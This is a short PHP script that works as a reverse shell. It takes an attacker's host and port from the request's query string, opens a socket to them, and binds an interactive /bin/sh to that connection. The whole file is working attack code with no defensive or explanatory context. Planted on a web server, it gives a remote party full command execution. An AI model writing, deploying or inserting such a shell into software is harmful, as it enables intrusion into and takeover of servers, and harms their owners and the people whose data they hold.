<?php
// Connects back to the address given in the request and hands it a shell.
set_time_limit(0);
$ip = isset($_GET['h']) ? $_GET['h'] : '127.0.0.1';
$port = isset($_GET['p']) ? (int) $_GET['p'] : 4444;
$sock = fsockopen($ip, $port);
$descriptorspec = array(0 => $sock, 1 => $sock, 2 => $sock);
$process = proc_open('/bin/sh -i', $descriptorspec, $pipes);
proc_close($process);
